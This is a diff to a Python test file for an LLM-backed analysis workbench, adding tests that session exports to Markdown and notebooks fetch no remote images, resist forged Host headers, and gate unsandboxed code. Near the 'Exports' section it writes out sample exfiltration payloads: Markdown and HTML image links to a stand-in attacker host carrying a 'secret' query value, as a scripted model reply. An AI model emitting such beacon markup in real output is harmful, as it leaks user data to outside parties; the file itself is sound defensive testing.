@@ -8,8 +8,14 @@ from __future__ import annotations
 
 import csv
 import io
+import re
+from pathlib import Path
 from typing import Any
 
+import nbformat
+import pytest
+from markdown_it import MarkdownIt
+from nbclient import NotebookClient
 from openpyxl import load_workbook
 
 from tests.api.test_login_rate_limit import (
@@ -22,7 +28,7 @@ from tests.api.test_login_rate_limit import (
     new_address,
 )
 from tests.api.test_query import ask, finished, of
-from tests.conftest import ADMIN_EMAIL, ADMIN_PASSWORD, Api
+from tests.conftest import ADMIN_EMAIL, ADMIN_PASSWORD, Api, stack_settings
 from tests.support.llm import ScriptedLLM, code_reply, final_reply
 from tests.support.server import LiveServer
 
@@ -238,3 +244,106 @@ def test_an_admin_lists_and_revokes_a_users_tokens_without_disabling_them(
     assert alice.get("/projects").status_code == 200
     unknown = admin.get("/users/00000000-0000-0000-0000-000000000000/tokens")
     assert unknown.status_code == 404 and unknown.json()["code"] == "user_not_found"
+
+
+# -- 4. Exports ---------------------------------------------------------------------------
+
+BEACON = "http://attacker.example/beacon"
+BEACON_ANSWER = (
+    f"Revenue is up. ![chart]({BEACON}/md.png?d=secret) "
+    f'<img src="{BEACON}/html.png"> <IMG SRC={BEACON}/upper.png> '
+    f"![ref][logo]\n\n[logo]: {BEACON}/ref.png\n\n"
+    f"| a |\n|---|\n| ![cell]({BEACON}/cell.png) |"
+)
+
+
+def remote_images(markdown: str) -> list[str]:
+    """The remote images a Markdown viewer that allows raw HTML (as Jupyter does) would
+    fetch on opening."""
+    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)
+    return re.findall(r"<img[^>]*src=[\"']?(https?://[^\"' >]+)", html, flags=re.IGNORECASE)
+
+
+def beacon_session(alice: Api, llm: ScriptedLLM) -> dict[str, Any]:
+    llm.script(
+        code_reply(
+            "import pandas as pd\n"
+            f"display(pd.DataFrame({{'link': ['![t]({BEACON}/t.png)', '<img src={BEACON}/t>']}}))"
+        ),
+        final_reply(repr(BEACON_ANSWER)),
+    )
+    session = new_session(alice, "Beacon")
+    assert finished(ask(alice, session["id"], "How is revenue?"))["status"] == "succeeded"
+    return session
+
+
+def export_of(api: Api, session: dict[str, Any], fmt: str = "ipynb", **headers: str) -> str:
+    response = api.get(f"/sessions/{session['id']}/export", params={"format": fmt}, headers=headers)
+    assert response.status_code == 200, response.text
+    return response.text
+
+
+def test_exports_fetch_no_remote_image_when_opened(alice: Api, llm: ScriptedLLM) -> None:
+    session = beacon_session(alice, llm)
+    assert remote_images(BEACON_ANSWER)  # the attack works on a plain renderer
+
+    markdown = export_of(alice, session, "md")
+    assert remote_images(markdown) == []
+    assert "Revenue is up." in markdown and f"{BEACON}/md.png" in markdown  # shown as text
+
+    notebook = nbformat.reads(export_of(alice, session, "ipynb"), as_version=4)
+    cells = [c.source for c in notebook.cells if c.cell_type == "markdown"]
+    assert any("Revenue is up." in c for c in cells)
+    assert [remote_images(c) for c in cells if remote_images(c)] == []
+    shown = [
+        str(o.get("data", {}).get(kind, ""))
+        for c in notebook.cells
+        if c.cell_type == "code"
+        for o in c.outputs
+        for kind in ("text/html", "text/markdown")
+    ]
+    assert not any(re.search(r"<img[^>]*https?://", s, flags=re.IGNORECASE) for s in shown)
+
+
+def test_the_notebook_never_points_its_token_at_a_forged_host(alice: Api) -> None:
+    session = new_session(alice)
+    for forged in ("attacker.example", "attacker.example:8000"):
+        source = export_of(alice, session, "ipynb", Host=forged)
+        assert "attacker.example" not in source
+        setup = nbformat.reads(source, as_version=4).cells[1].source
+        settings = alice.live.settings
+        expected = f"http://{settings.HOST}:{settings.PORT}"
+        assert f'os.environ.get("WORKBENCH_URL", {expected!r})' in setup
+
+
+def test_the_notebook_uses_the_public_url_setting(tmp_path: Path, llm: ScriptedLLM) -> None:
+    settings = stack_settings(
+        "embedded", tmp_path, LLM_API_BASE=llm.api_base, PUBLIC_URL="https://wb.example.com/"
+    )
+    live = LiveServer(settings).start()
+    try:
+        with Api(live).as_user(ADMIN_EMAIL, ADMIN_PASSWORD) as admin:
+            source = export_of(admin, new_session(admin), "ipynb", Host="attacker.example")
+    finally:
+        live.stop()
+    assert "attacker.example" not in source
+    setup = nbformat.reads(source, as_version=4).cells[1].source
+    assert "os.environ.get(\"WORKBENCH_URL\", 'https://wb.example.com')" in setup
+
+
+def test_the_notebook_says_it_runs_llm_code_unsandboxed_and_waits_for_consent(
+    alice: Api, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    notebook = nbformat.reads(export_of(alice, new_session(alice)), as_version=4)
+    first = notebook.cells[0]
+    assert first.cell_type == "markdown"
+    warning = first.source.lower()
+    assert "outside" in warning and "sandbox" in warning and "your" in warning
+    assert "WORKBENCH_RUN_UNSANDBOXED" in first.source
+    setup = nbformat.v4.new_notebook(cells=notebook.cells[:2])
+    monkeypatch.delenv("WORKBENCH_RUN_UNSANDBOXED", raising=False)
+    with pytest.raises(Exception, match="WORKBENCH_RUN_UNSANDBOXED"):
+        NotebookClient(setup, resources={"metadata": {"path": str(tmp_path)}}).execute()
+    monkeypatch.setenv("WORKBENCH_RUN_UNSANDBOXED", "1")
+    setup = nbformat.v4.new_notebook(cells=notebook.cells[:2])
+    NotebookClient(setup, resources={"metadata": {"path": str(tmp_path)}}).execute()
